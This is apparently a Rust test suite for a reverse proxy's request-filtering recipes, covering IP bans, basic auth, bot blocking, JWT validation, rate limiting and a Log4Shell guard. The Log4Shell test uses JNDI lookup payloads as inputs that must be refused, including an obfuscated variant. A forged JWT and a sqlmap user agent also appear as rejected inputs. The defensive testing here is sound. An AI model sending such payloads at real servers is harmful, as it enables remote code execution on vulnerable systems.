//! Recipes that let some requests pass and others not.

use super::{ask, ask_with, assert_closed, serve, serve_with};
use crate::rig::{Backend, Client, free_port};

#[test]
fn ban_list() {
    let web = Backend::named("web");
    let banned = "127.0.0.3        # knocks at every door\n\n127.0.0.64/28\n";
    let more = "[rules]\nresources = \".\"\n";
    let files = [("banned.txt", banned)];
    let site = serve_with(recipe!("ban_list"), &["request"], &[("web", &[&web])], more, &files);
    for address in ["127.0.0.3", "127.0.0.70"] {
        assert_closed(Client::connect_from(address, site.address), "GET /", &[], "");
    }
    assert_eq!(Client::connect_from("127.0.0.2", site.address).get("/").text(), "web");
    assert_eq!(web.count(), 1);
}

#[test]
fn basic_auth() {
    let web = Backend::named("web");
    let more = "[authenticators.staff]\ntype = \"htpasswd\"\nfile = \"users\"\n";
    // Their password is "secret", by `openssl passwd -apr1`.
    let files = [("users", "alice:$apr1$r31ZBJ1x$nfmilZgWJly1TBsk3cTjW.\n")];
    let site = serve_with(recipe!("basic_auth"), &["request"], &[("web", &[&web])], more, &files);
    let good = ask(&site, "GET /", &["Authorization: Basic YWxpY2U6c2VjcmV0", "X-User: root"]);
    assert_eq!(good.text(), "web");
    let seen = &web.requests()[0];
    assert_eq!((seen.header("x-user"), seen.header("authorization").len()), (vec!["alice"], 0));
    for headers in [&["Authorization: Basic YWxpY2U6Z3Vlc3M="][..], &["X-User: alice"], &[]] {
        let refused = ask(&site, "GET /", headers);
        assert_eq!((refused.status, refused.text()), (401, "Who are you?\n"));
        assert_eq!(refused.header("www-authenticate"), ["Basic realm=\"staff\", charset=\"UTF-8\""]);
    }
    assert_eq!(web.count(), 1);
}

#[test]
fn bot_blocking() {
    let web = Backend::named("web");
    // Nobody answers there: who claims to be Google's cannot prove it.
    let more = format!("[outbound]\nname_servers = [\"{}\"]\ntimeout = \"300ms\"\n", free_port());
    let site = serve(recipe!("bot_blocking"), &["request"], &[("web", &[&web])], &more);
    assert_eq!(ask(&site, "GET /", &["User-Agent: Mozilla/5.0 (X11; Linux)"]).text(), "web");
    for agent in ["sqlmap/1.9", "Mozilla/5.0 (compatible; Googlebot/2.1)"] {
        let refused = ask(&site, "GET /", &[&format!("User-Agent: {agent}")]);
        assert_eq!((refused.status, refused.text()), (403, "No robots here.\n"), "{agent}");
    }
    assert_eq!(ask(&site, "GET /", &[]).status, 403);
    assert_eq!(web.count(), 1);
}

#[test]
fn hotlink_protection() {
    let web = Backend::named("web");
    let site = serve(recipe!("hotlink_protection"), &["request"], &[("web", &[&web])], "");
    let (own, other) = ("Referer: https://www.example.com/a", "Referer: https://example.com.evil.example/");
    let refused = ask(&site, "GET /a.JPG?x", &[other]);
    assert_eq!((refused.status, refused.text()), (403, "This picture belongs to example.com.\n"));
    for (line, headers) in [
        ("GET /a.jpg", &[own][..]),
        ("GET /a.jpg", &[]),
        ("GET /a.html", &[other]),
        ("GET /a?b.jpg", &[other]),
    ] {
        assert_eq!(ask(&site, line, headers).text(), "web", "{line} {headers:?}");
    }
}

#[test]
fn json_inspection() {
    let (web, express) = (Backend::named("web"), Backend::named("express"));
    let pools: [(&str, &[&Backend]); 2] = [("web", &[&web]), ("express", &[&express])];
    let site = serve(recipe!("json_inspection"), &["request"], &pools, "");
    let order = |body: &str| ask_with(&site, "POST /orders", &["Content-Type: application/json"], body);
    let good = "{\"article\":\"nut\",\"quantity\":7}";
    assert_eq!(order(good).text(), "web");
    assert_eq!(web.requests()[0].body, good.as_bytes());
    assert_eq!(order("{\"article\":\"nut\",\"quantity\":7,\"express\":true}").text(), "express");
    for (body, why) in [
        ("{\"article\":\"nut\",\"quantity\":100}", "{\"error\":\"order 1 to 99\"}"),
        ("{\"quantity\":1}", "{\"error\":\"no article\"}"),
        ("{\"article\":", "{\"error\":\"no article\"}"),
    ] {
        let refused = order(body);
        assert_eq!((refused.status, refused.text()), (422, why), "{body}");
    }
    let refused = ask_with(&site, "POST /orders", &["Content-Type: text/xml"], good);
    assert_eq!((refused.status, refused.text()), (422, "{\"error\":\"send JSON\"}"));
}

#[test]
fn jwt_check() {
    // A key whose other half signed these: for alice, until the year 2100 and until June 2025.
    let key = "MCowBQYDK2VwAyEA0VcSyiiIpt9hy81XJLcrt4uFATgJIhI7f2Omkyt1prA=";
    let valid = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJodHRwczovL2xvZ2luLmV4YW1wbGUuY29tIiwic3ViIjoiYWxpY2UiLCJleHAiOjQxMDI0NDQ4MDB9.W9e_1h6of7ruhIKt3waRM4tEQdj1z7VgkB7a4LAp9MlsXwETlN8X-E1yEUX4IxMv_zm2jV6Oyw7pUlrjfuvKAA";
    let expired = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJodHRwczovL2xvZ2luLmV4YW1wbGUuY29tIiwic3ViIjoiYWxpY2UiLCJleHAiOjE3NDg3Mzk2MDB9.Ln4-46u34-JsSN27w8VEf6X8DWm7AW_BZAFzoUn3DgXBR_37HbagkMNxjRheJ_vWFiUrmudksId3czeggDzhBw";
    let rule = recipe!("jwt_check");
    let own = rule.lines().find(|line| line.starts_with("MCow")).unwrap();
    let web = Backend::named("web");
    let site = serve(&rule.replace(own, key), &["request"], &[("web", &[&web])], "");
    let bearer = |token: &str| format!("Authorization: Bearer {token}");
    assert_eq!(ask(&site, "GET /orders", &[&bearer(valid), "X-User: root"]).text(), "web");
    assert_eq!(web.requests()[0].header("x-user"), ["alice"]);
    let (head, signature) = valid.rsplit_once('.').unwrap();
    let forged = format!("{}.{signature}", expired.rsplit_once('.').unwrap().0);
    for token in [expired, &forged, &format!("{head}."), ""] {
        let refused = ask(&site, "GET /orders", &[&bearer(token)]);
        assert_eq!((refused.status, refused.text()), (401, "Log in first.\n"), "{token}");
        assert_eq!(refused.header("www-authenticate"), ["Bearer realm=\"api\""]);
    }
    assert_eq!(ask(&site, "GET /health", &["X-User: root"]).text(), "web");
    assert_eq!(web.requests()[1].header("x-user").len(), 0);
}

#[test]
fn log4shell_guard() {
    let web = Backend::named("web");
    let site = serve(recipe!("log4shell_guard"), &["request"], &[("web", &[&web])], "");
    for (line, headers, body) in [
        ("GET /?q=%24%7Bjndi:ldap://x/a%7D", &[][..], ""),
        ("GET /", &["User-Agent: ${${lower:j}ndi:ldap://x/a}"], ""),
        ("POST /", &[], "name=${jndi:dns://x}"),
    ] {
        assert_closed(Client::connect(site.address), line, headers, body);
        site.wait_for_log("A look-up of Log4j from 127.0.0.1");
    }
    assert_eq!(ask_with(&site, "POST /?price=$7", &[], "name={jndi}").text(), "web");
    assert_eq!(web.count(), 1);
}

#[test]
fn login_throttling() {
    let web = Backend::named("web");
    let more = "[rate_classes.\"logins from an address\"]\nper_minute = 3\n\
                [rate_classes.\"logins for a name\"]\nper_minute = 2\n";
    let site = serve(recipe!("login_throttling"), &["request"], &[("web", &[&web])], more);
    let login = |from: &str, user: &str| {
        let form = "Content-Type: application/x-www-form-urlencoded";
        let from = format!("X-Forwarded-For: {from}");
        ask_with(&site, "POST /login", &[form, &from], &format!("user={user}&password=x")).status
    };
    assert_eq!([login("203.0.113.1", "alice"), login("203.0.113.2", "+ALICE")], [200, 200]);
    assert_eq!(login("203.0.113.3", "alice"), 429, "the third for one name");
    assert_eq!([login("203.0.113.1", "bob"), login("203.0.113.1", "carol")], [200, 200]);
    assert_eq!(login("203.0.113.1", "dave"), 429, "the fourth from one address");
    site.wait_for_log("Too many logins from 203.0.113.1");
    assert_eq!(ask(&site, "GET /login", &["X-Forwarded-For: 203.0.113.1"]).text(), "web");
}

#[test]
fn maintenance_window() {
    let web = Backend::named("web");
    let rule = recipe!("maintenance_window");
    // As it stands: whether it is two to four on a Sunday, this machine's clock says.
    let site = serve(rule, &["request"], &[("web", &[&web])], "");
    let now = ask(&site, "GET /", &[]);
    let wait: Vec<u32> = now.header("retry-after").iter().map(|seconds| seconds.parse().unwrap()).collect();
    assert!(now.status == 200 && wait.is_empty() || now.status == 503 && wait[0] <= 7200, "{}", now.head);
    // With hours that are always now, and the office at another address.
    let days = "sys.time.weekday() != 1 || sys.time.hour() < 2 || sys.time.hour() >= 4";
    assert!(rule.contains(days) && rule.contains("( 4 - ") && rule.contains("192.0.2.0/24"));
    let rule = rule.replace(days, "sys.time.hour() >= 24").replace("( 4 - ", "( 24 - ");
    let site = serve(&rule.replace("192.0.2.0/24", "127.0.0.2/32"), &["request"], &[("web", &[&web])], "");
    let down = ask(&site, "GET /", &[]);
    assert_eq!((down.status, down.text()), (503, "<h1>We are back at four.</h1>\n"));
    assert_eq!(down.header("cache-control"), ["no-store"]);
    let seconds: u32 = down.header("retry-after")[0].parse().unwrap();
    assert!((60..=86_400).contains(&seconds) && seconds.is_multiple_of(60), "{seconds}");
    assert_eq!(Client::connect_from("127.0.0.2", site.address).get("/").text(), "web");
}

#[test]
fn rate_limit() {
    let web = Backend::named("web");
    let more = "[rate_classes.api]\nper_minute = 2\n";
    let site = serve(recipe!("rate_limit"), &["request"], &[("web", &[&web])], more);
    let call = |key: &str| ask(&site, "GET /", &[&format!("X-API-Key: {key}")]);
    assert_eq!([call("a").status, call("a").status], [200, 200]);
    let refused = call("a");
    assert_eq!((refused.status, refused.text()), (429, "Your key has no calls left.\n"));
    assert_eq!(refused.header("retry-after"), ["1"]);
    assert_eq!(call("b").status, 200, "keys do not count against each other");
    assert_eq!(ask(&site, "GET /", &[]).status, 401);
    assert_eq!(web.count(), 3);
}
